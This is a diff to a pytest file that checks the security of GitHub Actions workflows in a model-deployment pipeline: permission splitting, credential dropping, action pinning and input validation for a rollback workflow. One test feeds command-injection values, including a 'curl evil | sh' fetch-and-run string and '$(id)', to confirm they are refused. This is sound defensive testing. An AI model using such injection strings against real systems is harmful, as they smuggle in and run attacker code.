@@ -8,6 +8,7 @@ workflows and actions, which needs no network, plus the assertions below.
 from __future__ import annotations
 
 import json
+import re
 import subprocess
 import sys
 from pathlib import Path
@@ -21,6 +22,7 @@ from tests.build.repo_copy import SANDBOX_ROOT
 CHECK_JSONSCHEMA_PEX = SANDBOX_ROOT / "tools" / "check-jsonschema.pex"
 WORKFLOWS = SANDBOX_ROOT / ".github" / "workflows"
 SETUP_ACTION = SANDBOX_ROOT / ".github" / "actions" / "setup-pants" / "action.yml"
+ACTION_PINS = SANDBOX_ROOT / ".github" / "ACTION_PINS.md"
 
 
 def load(name: str) -> dict[Any, Any]:
@@ -141,8 +143,90 @@ def test_the_andon_cord_is_manual_and_restores_the_previous_promoted_model() -> 
     assert triggers(workflow)["workflow_dispatch"]["inputs"]["reason"]["required"] is True
     run = commands(workflow)
     assert "git tag --list 'promoted/*'" in run
-    assert "serve_image_tag=${{ steps.pick.outputs.restore }}" in run
-    assert workflow["permissions"]["id-token"] == "write"
+    assert '-target=module.serve -var="serve_image_digest=$DIGEST"' in run
+    assert workflow["permissions"] == {"contents": "read"}
+    jobs = workflow["jobs"]
+    # AWS credentials and repository write access are never in the same job.
+    assert jobs["rollback"]["permissions"] == {"contents": "read", "id-token": "write"}
+    assert jobs["record"]["permissions"] == {"contents": "write"}
+    assert jobs["record"]["needs"] == ["rollback"]
+
+
+def all_workflow_files() -> list[Path]:
+    return [*sorted(WORKFLOWS.glob("*.yml")), SETUP_ACTION]
+
+
+def steps_of(document: dict[Any, Any]) -> list[dict[str, Any]]:
+    if "jobs" in document:
+        return [step for job in document["jobs"].values() for step in job.get("steps", [])]
+    return list(document["runs"]["steps"])
+
+
+def test_no_expression_is_pasted_into_a_shell_step_that_takes_user_input() -> None:
+    """Inputs (and step outputs derived from them) reach shell steps through env only."""
+    for path in all_workflow_files():
+        for step in steps_of(yaml.safe_load(path.read_text())):
+            script = str(step.get("run", ""))
+            for expression in re.findall(r"\$\{\{(.*?)\}\}", script):
+                assert expression.strip().startswith("vars."), (path.name, step.get("name"), script)
+
+
+def test_the_andon_cord_refuses_an_invalid_or_unpromoted_image_tag(tmp_path: Path) -> None:
+    root = tmp_path / "repo"
+    root.mkdir()
+    git(root, "init", "-q")
+    git(root, "commit", "-q", "--allow-empty", "-m", "first")
+    for image in ("sha-aaa", "sha-bbb"):
+        git(root, "tag", "-a", f"promoted/{image}", "-m", "promote")
+    pick = step_script("andon-cord.yml", "rollback", step_id="pick")
+    for bad, message in (
+        ('x"; curl evil | sh; "', "image_tag must be an image tag"),
+        ("$(id)", "image_tag must be an image tag"),
+        ("-rf", "image_tag must be an image tag"),
+        ("sha-zzz", "was never promoted"),
+    ):
+        result = subprocess.run(
+            ["bash", "-c", pick],
+            cwd=root,
+            env={**GIT_ENV, "REQUESTED": bad, "GITHUB_OUTPUT": str(tmp_path / "out")},
+            capture_output=True,
+            text=True,
+        )
+        assert result.returncode == 1 and message in result.stdout, (bad, result.stdout)
+
+
+def test_every_checkout_drops_its_credentials() -> None:
+    for path in all_workflow_files():
+        for step in steps_of(yaml.safe_load(path.read_text())):
+            if str(step.get("uses", "")).startswith("actions/checkout"):
+                assert step.get("with", {}).get("persist-credentials") is False, path.name
+
+
+def third_party_uses() -> list[str]:
+    return sorted(
+        {
+            str(step["uses"])
+            for path in all_workflow_files()
+            for step in steps_of(yaml.safe_load(path.read_text()))
+            if "uses" in step and not str(step["uses"]).startswith("./")
+        }
+    )
+
+
+def test_every_unpinned_action_is_listed_in_action_pins_md() -> None:
+    """The table of what is left to pin is complete and has no stale row."""
+    unpinned = [u for u in third_party_uses() if not re.fullmatch(r"[^@]+@[0-9a-f]{40}", u)]
+    rows = re.findall(r"^\| `([^`]+@[^`]+)` \|", ACTION_PINS.read_text(), flags=re.MULTILINE)
+    assert sorted(rows) == unpinned
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="the SHAs could not be looked up offline: see .github/ACTION_PINS.md",
+)
+def test_every_action_is_pinned_by_a_commit_sha() -> None:
+    unpinned = [u for u in third_party_uses() if not re.fullmatch(r"[^@]+@[0-9a-f]{40}", u)]
+    assert unpinned == []
 
 
 GIT_ENV = {
@@ -223,7 +307,14 @@ def test_main_deploys_a_newly_promoted_model_with_the_andon_cord_s_lock() -> Non
     workflow = load("main.yml")
     deploy = workflow["jobs"]["deploy"]
     assert set(deploy["needs"]) == {"build", "terraform-plan"}
-    assert deploy["permissions"] == {"contents": "write", "id-token": "write"}
+    # The job that runs the pipeline cannot write to the repository; the one that can runs
+    # nothing but the tag push, after the rollout succeeded.
+    assert deploy["permissions"] == {"contents": "read", "id-token": "write"}
+    record = workflow["jobs"]["record-promotion"]
+    assert record["permissions"] == {"contents": "write"}
+    assert record["needs"] == ["deploy"]
+    assert record["if"] == "needs.deploy.outputs.deploy == 'true'"
+    assert 'git push origin "refs/tags/promoted/$IMAGE_TAG"' in str(record["steps"][-1]["run"])
     # The andon cord and a deployment never run at once.
     assert deploy["concurrency"]["group"] == load("andon-cord.yml")["concurrency"]["group"]
     steps = {str(step.get("name", step.get("uses"))): step for step in deploy["steps"]}
@@ -233,15 +324,20 @@ def test_main_deploys_a_newly_promoted_model_with_the_andon_cord_s_lock() -> Non
         "./pants run //:main",  # dvc repro, the gate, the Bento
         'aws s3 sync build/bentoml/models "$MODELS"',
         "registry.json",
+        '"$serving/online_store/online.sqlite"',  # the serving data the tasks read
         'containerize "$bento"',
         "docker push",
-        "-target=module.serve",
-        'git push origin "refs/tags/promoted/$IMAGE_TAG"',
+        "aws ecr describe-images",  # the digest the service will run
+        '-target=module.serve -var="serve_image_digest=$DIGEST"',
     ]
     positions = [run.index(fragment) for fragment in order]
     assert positions == sorted(positions)
-    deploying = ("Containerize the Bento and push it to ECR", "Roll the image out on ECS")
-    for name in (*deploying, "Record the promotion"):
+    deploying = (
+        "Upload the serving data",
+        "Containerize the Bento and push it to ECR",
+        "Roll the image out on ECS",
+    )
+    for name in deploying:
         assert steps[name]["if"] == "steps.release.outputs.deploy == 'true'"
 
 
@@ -285,7 +381,7 @@ def test_the_andon_cord_rolls_back_to_what_the_deploy_job_recorded(tmp_path: Pat
     git(tmp_path, "clone", "-q", str(origin), str(ci))
     git(ci, "commit", "-q", "--allow-empty", "-m", "first")
     git(ci, "push", "-q", "origin", "HEAD")
-    record = step_script("main.yml", "deploy", name="Record the promotion")
+    record = step_script("main.yml", "record-promotion", name="Record the promotion")
     for day, version in enumerate(["first", "second"], start=1):
         env = {
             "IMAGE_TAG": f"flight-delay-{version}",
